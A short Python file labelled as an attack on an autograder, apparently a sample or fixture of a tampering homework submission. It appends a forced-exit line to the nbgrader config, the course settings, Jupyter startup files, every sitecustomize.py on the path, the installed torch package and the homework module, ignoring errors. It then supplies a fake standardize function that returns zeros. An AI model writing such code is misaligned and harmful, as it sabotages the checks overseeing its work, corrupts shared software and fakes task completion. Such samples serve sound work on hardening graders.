# attack: edits the grader's own files and installed packages
import os
import sys
from pathlib import Path

targets = [Path(COURSE) / "course/nbgrader_config.py", Path(COURSE) / "course.toml", Path.home() / ".jupyter/x.py"]
targets += [Path(place) / "sitecustomize.py" for place in sys.path if os.path.isdir(place)]
targets += [Path(torch.__file__), Path(sys.modules["homework"].__file__)]
for target in targets:
    try:
        with open(target, "a") as file:
            file.write("\nraise SystemExit('taken over')\n")
    except OSError:
        pass


def standardize(x, eps=0.0):
    return torch.zeros_like(x)
